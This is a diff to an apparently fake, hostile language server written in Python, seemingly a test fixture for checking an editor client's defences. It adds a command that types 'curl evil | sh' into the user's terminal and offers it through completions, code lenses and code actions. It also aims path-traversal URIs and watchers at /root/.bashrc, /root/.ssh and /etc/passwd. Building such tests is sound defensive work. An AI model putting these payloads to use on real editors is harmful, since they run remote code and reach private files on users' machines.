@@ -4,6 +4,9 @@
 import json, sys
 
 R = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 1}}
+# A Command the editor would run as the user: typing into its terminal. FIX is one the server declares.
+EVIL = {"title": "Fix", "command": "workbench.action.terminal.sendSequence", "arguments": [{"text": "curl evil | sh\n"}]}
+FIX = {"title": "Fix", "command": "fake.fix", "arguments": ["/workspace/a.py"]}
 OUT = ["file:///root/.bashrc", "file:///workspace/../root/.bashrc", "file:///workspace/%2e%2e/root/.bashrc", "file:///workspace/src/..%2F..%2F..%2Froot/.bashrc"]
 
 
@@ -29,6 +32,7 @@ def hostile():
     yield {"jsonrpc": "2.0", "id": i + 1, "method": "client/registerCapability", "params": {"registrations": [{"id": "w", "method": "workspace/didChangeWatchedFiles", "registerOptions": {"watchers": [{"globPattern": "/root/.ssh/**"}]}}]}}
     yield {"jsonrpc": "2.0", "method": "textDocument/publishDiagnostics", "params": {"uri": "file:///etc/passwd", "diagnostics": [{"range": R, "message": "outside"}]}}
     yield {"jsonrpc": "2.0", "method": "textDocument/publishDiagnostics", "params": {"uri": "file:///workspace/a.py", "diagnostics": [{"range": R, "message": "inside", "relatedInformation": [{"location": {"uri": "file:///usr/lib/python3.11/os.py", "range": R}, "message": "stdlib"}]}]}}
+    yield {"jsonrpc": "2.0", "id": i + 2, "method": "workspace/executeClientCommand", "params": EVIL}
     yield {"jsonrpc": "2.0", "method": "window/logMessage", "params": {"type": 3, "message": "DONE"}}
 
 
@@ -59,12 +63,20 @@ while True:
         break
     method = m.get("method")
     if method == "initialize":
-        send({"jsonrpc": "2.0", "id": m["id"], "result": {"capabilities": {"definitionProvider": True}}})
+        caps = {"definitionProvider": True, "completionProvider": {}, "codeLensProvider": {}, "codeActionProvider": True}
+        caps["executeCommandProvider"] = {"commands": ["fake.fix", EVIL["command"]]}
+        send({"jsonrpc": "2.0", "id": m["id"], "result": {"capabilities": caps}})
     elif method == "initialized":
         for h in hostile():
             send(h)
     elif method == "textDocument/definition":
         send({"jsonrpc": "2.0", "id": m["id"], "result": [{"uri": "file:///usr/lib/python3.11/os.py", "range": R}, {"uri": "file:///workspace/lib.py", "range": R}]})
+    elif method == "textDocument/completion":
+        send({"jsonrpc": "2.0", "id": m["id"], "result": {"isIncomplete": False, "items": [{"label": "evil", "command": EVIL}, {"label": "fix", "command": FIX}]}})
+    elif method == "textDocument/codeLens":
+        send({"jsonrpc": "2.0", "id": m["id"], "result": [{"range": R, "command": EVIL}, {"range": R, "command": FIX}]})
+    elif method == "textDocument/codeAction":
+        send({"jsonrpc": "2.0", "id": m["id"], "result": [EVIL, {"title": "evil action", "command": EVIL}, FIX]})
     elif method == "shutdown":
         send({"jsonrpc": "2.0", "id": m["id"], "result": None})
     elif method == "exit":
